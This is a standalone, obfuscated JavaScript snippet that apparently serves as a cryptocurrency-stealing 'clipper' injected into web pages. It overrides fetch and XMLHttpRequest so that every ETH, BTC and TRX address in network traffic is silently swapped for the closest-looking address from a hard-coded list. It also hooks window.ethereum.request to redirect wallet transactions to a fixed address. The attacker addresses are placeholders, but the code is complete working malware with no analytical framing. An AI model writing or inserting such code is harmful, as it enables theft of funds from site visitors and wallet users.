(function () {
  const item0 = {
    eth: ["0x0000000000000000000000000000000000000001", "0x0000000000000000000000000000000000000002"],
    btc: ["1invalidinvalidinvalidinvalidinva", "bc1qinvalidinvalidinvalidinvalidinvalid"],
    trx: ["Tinvalidinvalidinvalidinvalidinva"]
  };
  const item1 = {
    eth: /\b0x[a-fA-F0-9]{40}\b/g,
    btc: /\b(?:1[a-km-zA-HJ-NP-Z1-9]{25,34}|bc1q[a-z0-9]{11,71})\b/g,
    trx: /\bT[A-Za-z1-9]{33}\b/g
  };
  function item2(item7, item8) {
    const item9 = [];
    for (let item10 = 0; item10 <= item7.length; item10++) item9[item10] = [item10];
    for (let item11 = 0; item11 <= item8.length; item11++) item9[0][item11] = item11;
    for (let item12 = 1; item12 <= item7.length; item12++) {
      for (let item13 = 1; item13 <= item8.length; item13++) {
        item9[item12][item13] = item7[item12 - 1] === item8[item13 - 1] ? item9[item12 - 1][item13 - 1] : 1 + Math.min(item9[item12 - 1][item13], item9[item12][item13 - 1], item9[item12 - 1][item13 - 1]);
      }
    }
    return item9[item7.length][item8.length];
  }
  function item3(item14, item15) {
    let item16 = item15[0];
    let item17 = Infinity;
    for (const item18 of item15) {
      const item19 = item2(item14.toLowerCase(), item18.toLowerCase());
      if (item19 < item17) {
        item17 = item19;
        item16 = item18;
      }
    }
    return item16;
  }
  function item4(item20) {
    if (typeof item20 !== "string") return item20;
    for (const item21 of Object.keys(item1)) {
      item20 = item20.replace(item1[item21], item22 => item0[item21].includes(item22) ? item22 : item3(item22, item0[item21]));
    }
    return item20;
  }
  const item5 = window.fetch;
  window.fetch = async function (...item23) {
    const item24 = await item5.apply(this, item23);
    const item25 = item24.headers.get("content-type") || "";
    const item26 = item25.includes("json") ? JSON.stringify(await item24.clone().json()) : await item24.clone().text();
    return new Response(item4(item26), {
      status: item24.status,
      statusText: item24.statusText,
      headers: item24.headers
    });
  };
  const item6 = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (item27) {
    const item28 = this;
    const item29 = item28.onreadystatechange;
    item28.onreadystatechange = function () {
      if (item28.readyState === 4 && item28.responseText) {
        Object.defineProperty(item28, "responseText", {
          value: item4(item28.responseText)
        });
      }
      if (item29) item29.apply(item28, arguments);
    };
    return item6.call(item28, item4(item27));
  };
  if (window.ethereum) {
    const item30 = window.ethereum.request;
    window.ethereum.request = function (item31) {
      if (item31.method === "eth_sendTransaction" && item31.params && item31.params[0]) {
        item31.params[0].to = item0.eth[0];
      }
      return item30.call(window.ethereum, item31);
    };
  }
})();
